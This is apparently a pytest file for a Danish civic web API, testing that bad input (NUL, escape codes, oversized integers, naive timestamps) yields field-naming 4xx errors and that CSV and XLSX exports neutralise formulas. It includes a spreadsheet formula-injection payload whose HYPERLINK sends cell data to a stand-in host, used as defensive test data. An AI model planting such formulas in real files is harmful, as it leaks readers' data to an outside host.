"""Bad input is a 4xx that names the field, everywhere: control characters, NUL, integers beyond
their columns, odd request targets; and exported files cannot attack their readers."""

from __future__ import annotations

import io
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy import update
from sqlmodel import col

from sammen.core.db import Database
from sammen.initiatives.models import Initiative
from tests.conftest import BACKEND, AuthHeaders
from tests.factories import ADMIN, demo, field_names, problem
from tests.indicators.helpers import IMPORTS, parse_csv, upload
from tests.initiatives.helpers import API, create_initiative

EDITOR = demo("editor", "aab")
REPORTER = demo("reporter", "aab")
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
RISKY = [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]


# ---------------------------------------------------------------- control characters and NUL
async def test_nul_in_a_description_is_a_422_naming_the_field(
    client: httpx.AsyncClient, as_user: AuthHeaders
) -> None:
    body = problem(
        await client.post(
            f"{API}/initiatives",
            json={"title": "Ny", "lead": "aab", "description": "før\x00efter"},
            headers=await as_user(EDITOR),
        ),
        422,
    )
    assert field_names(body) == {"body.description"}


async def test_escape_in_a_comment_is_refused_but_line_breaks_in_text_are_kept(
    client: httpx.AsyncClient, as_user: AuthHeaders
) -> None:
    headers = await as_user(REPORTER)
    path = "/api/v1/indicators/fraflytning/observations"
    bad = {"items": [{"area": "danmark", "period": "2023K1", "value": 1, "comment": "rød\x1b[31m"}]}
    assert field_names(problem(await client.put(path, json=bad, headers=headers), 422)) == {
        "body.items.0.comment"
    }
    good = {
        "items": [{"area": "danmark", "period": "2023K1", "value": 1, "comment": "linje 1\nlinje 2\tog tab"}]
    }
    assert (await client.put(path, json=good, headers=headers)).status_code == 200


async def test_a_line_break_in_a_single_line_field_is_refused(
    client: httpx.AsyncClient, as_user: AuthHeaders
) -> None:
    body = problem(
        await client.post(
            f"{API}/initiatives", json={"title": "To\nlinjer", "lead": "aab"}, headers=await as_user(EDITOR)
        ),
        422,
    )
    assert field_names(body) == {"body.title"}


async def test_nul_in_a_sign_in_form_is_a_422(client: httpx.AsyncClient) -> None:
    response = await client.post(
        "/api/v1/auth/token", data={"grant_type": "password", "username": "a\x00@b.dk", "password": "x"}
    )
    assert field_names(problem(response, 422)) == {"body.username"}


async def test_nul_in_a_path_or_query_is_a_4xx_never_a_500(client: httpx.AsyncClient) -> None:
    for target in ("/index.html%00.js", "/api/v1/indicators/tryghed%00", "/api/v1/initiatives?q=a%00b"):
        response = await client.get(target)
        assert response.status_code == 422, (target, response.status_code)
    assert (await client.get("/" + "a" * 5000 + ".js")).status_code < 500


@pytest.mark.skipif(BACKEND != "sqlite", reason="PostgreSQL cannot store NUL at all")
async def test_an_initiative_stored_with_nul_before_input_refused_it_still_reads(
    client: httpx.AsyncClient, as_user: AuthHeaders, database: Database
) -> None:
    headers = await as_user(EDITOR)
    created = await create_initiative(client, headers)
    async with database.session(write=True) as session:
        await session.execute(
            update(Initiative)
            .where(col(Initiative.id) == created["id"])
            .values(description="gammel\x00tekst")
        )
    assert (await client.get(f"{API}/initiatives/{created['id']}", headers=headers)).status_code == 200


# ---------------------------------------------------------------- integers beyond their columns
async def test_integers_beyond_the_columns_are_422_in_paths_queries_and_bodies(
    client: httpx.AsyncClient, as_user: AuthHeaders
) -> None:
    headers = await as_user(ADMIN)
    for target in (
        f"{API}/initiatives/2147483648",
        f"{API}/initiatives/9223372036854775808",
        f"{API}/initiatives?offset=9223372036854775808",
        f"{API}/users?organisation_id=99999999999999999999999",
    ):
        response = await client.get(target, headers=headers)
        assert response.status_code in (404, 422), (target, response.status_code, response.text)
    assert (await client.get(f"{API}/initiatives/2147483648", headers=headers)).status_code == 404
    body = problem(
        await client.post(
            f"{API}/organisations",
            json={"slug": "ny-org", "name": "Ny", "kind": "other", "parent_id": 2**63},
            headers=headers,
        ),
        422,
    )
    assert field_names(body) == {"body.parent_id"}
    batch = {"items": [{"area": "danmark", "period": "2023K1", "value": 1, "n": 2**40}]}
    response = await client.put(
        "/api/v1/indicators/fraflytning/observations", json=batch, headers=await as_user(REPORTER)
    )
    assert field_names(problem(response, 422)) == {"body.items.0.n"}


# ---------------------------------------------------------------- exports that cannot attack their readers
async def _store_risky_comments(client: httpx.AsyncClient, headers: dict[str, str]) -> None:
    items = [
        {"area": "danmark", "period": f"2019K{k + 1}", "value": 1, "comment": text}
        for k, text in enumerate(RISKY[:4])
    ]
    response = await client.put(
        "/api/v1/indicators/fraflytning/observations", json={"items": items}, headers=headers
    )
    assert response.status_code == 200, response.text


def _cells(data: bytes) -> list[Any]:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


async def test_observation_exports_hold_formulas_as_inert_text(
    client: httpx.AsyncClient, as_user: AuthHeaders
) -> None:
    headers = await as_user(REPORTER)
    await _store_risky_comments(client, headers)
    params = {"indicator": "fraflytning", "area": "danmark", "period_from": "2019K1", "period_to": "2019K4"}
    xlsx = await client.get("/api/v1/observations", params={**params, "format": "xlsx"}, headers=headers)
    cells = _cells(xlsx.content)
    assert not [c.value for c in cells if c.data_type == "f"]
    risky = [c for c in cells if c.value in RISKY]
    assert {c.value for c in risky} == set(RISKY[:4])
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)
    text = (
        await client.get("/api/v1/observations", params={**params, "format": "csv"}, headers=headers)
    ).text
    comments = {row["comment"] for row in parse_csv(text.lstrip("\ufeff"))}
    assert comments == {"'" + t for t in RISKY[:4]}


async def test_an_exported_csv_with_neutralised_formulas_imports_unchanged(
    client: httpx.AsyncClient, as_user: AuthHeaders
) -> None:
    headers = await as_user(REPORTER)
    await _store_risky_comments(client, headers)
    params = {
        "indicator": "fraflytning",
        "area": "danmark",
        "period_from": "2019K1",
        "period_to": "2019K4",
        "format": "csv",
    }
    exported = (await client.get("/api/v1/observations", params=params, headers=headers)).content
    again = await client.post(IMPORTS, files=upload("igen.csv", exported), headers=headers)
    assert again.json()["unchanged"] == 4, again.text


async def test_initiative_exports_hold_formulas_as_inert_text(
    client: httpx.AsyncClient, as_user: AuthHeaders
) -> None:
    headers = await as_user(EDITOR)
    await create_initiative(client, headers, title="Klik her", summary=FORMULA)
    xlsx = await client.get(f"{API}/initiatives/export", params={"format": "xlsx"}, headers=headers)
    assert xlsx.status_code == 200
    cells = _cells(xlsx.content)
    assert not [c.value for c in cells if c.data_type == "f"]
    assert [c.quotePrefix for c in cells if c.value == FORMULA] == [True]
    text = (await client.get(f"{API}/initiatives/export", params={"format": "csv"}, headers=headers)).text
    assert "'" + FORMULA.replace('"', '""') in text


async def test_a_control_character_stored_before_input_refused_it_does_not_break_exports(
    client: httpx.AsyncClient, as_user: AuthHeaders, database: Database
) -> None:
    headers = await as_user(EDITOR)
    created = await create_initiative(client, headers, title="Gammel")
    async with database.session(write=True) as session:
        await session.execute(
            update(Initiative).where(col(Initiative.id) == created["id"]).values(summary="farve\x1b[31m")
        )
    xlsx = await client.get(f"{API}/initiatives/export", params={"format": "xlsx"}, headers=headers)
    assert xlsx.status_code == 200
    assert "farve\ufffd[31m" in [c.value for c in _cells(xlsx.content)]


# ---------------------------------------------------------------- times without an offset
@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/meetings?starts_from={t}",
        "/api/v1/meetings?starts_before={t}",
        "/api/v1/audit-events?since={t}",
        "/api/v1/audit-events?until={t}",
        "/api/v1/security-events?since={t}",
        "/api/v1/observations?updated_since={t}",
        "/api/v1/initiatives?updated_since={t}",
    ],
)
async def test_a_time_filter_without_an_offset_is_read_as_utc(
    client: httpx.AsyncClient, as_user: AuthHeaders, path: str
) -> None:
    headers = await as_user(ADMIN)
    naive = await client.get(path.format(t="2025-06-01T00:00:00"), headers=headers)
    explicit = await client.get(path.format(t="2025-06-01T00:00:00Z"), headers=headers)
    assert naive.status_code == 200, naive.text
    assert naive.json() == explicit.json()
